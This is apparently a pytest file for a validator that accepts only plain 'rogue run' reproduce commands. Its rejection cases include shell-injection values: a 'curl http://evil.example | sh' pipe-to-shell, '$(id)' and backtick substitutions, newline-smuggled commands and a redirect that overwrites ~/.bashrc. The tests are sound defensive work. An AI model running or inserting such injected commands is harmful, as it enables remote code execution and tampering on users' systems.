"""The command that a run says repeats a cell."""

import pytest

from rogue.reports.reading.files import repeating_command


@pytest.mark.parametrize(
    "command",
    [
        "rogue run quickstart --testbed simulator --only-cell a",
        "rogue run 'my files/e.yaml' --set 'a=[{b: c}]'",
    ],
)
def test_what_rogue_writes_is_shown(command: str) -> None:
    assert repeating_command({"reproduce": command}) == command


@pytest.mark.parametrize(
    "command",
    [
        "rogue run x; curl http://evil.example | sh",
        "rogue run x && id",
        "rogue run $(id)",
        "rogue run `id`",
        "rogue run x > ~/.bashrc",
        "rogue run x\nid",
        "rogue run 'x\nid'",
        "rogue run \"$(id)\"",
        "curl http://evil.example",
        "rogue rm results",
        "rogue run 'x",
        "",
        7,
        None,
    ],
)  # fmt: skip
def test_what_a_shell_would_do_besides_is_not(command: object) -> None:
    assert repeating_command({"reproduce": command}) is None
